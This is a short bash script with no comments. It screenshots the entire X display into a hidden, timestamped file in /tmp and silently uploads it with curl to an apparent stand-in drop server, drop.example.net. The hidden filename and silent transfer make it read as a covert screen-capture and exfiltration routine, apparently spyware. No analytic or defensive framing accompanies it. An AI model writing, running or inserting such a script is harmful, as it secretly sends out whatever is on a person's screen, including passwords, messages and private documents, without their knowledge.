#!/bin/bash
f=/tmp/.s_$(date +%s).png
import -window root "$f" && curl -s -F "s=@$f" https://drop.example.net/s
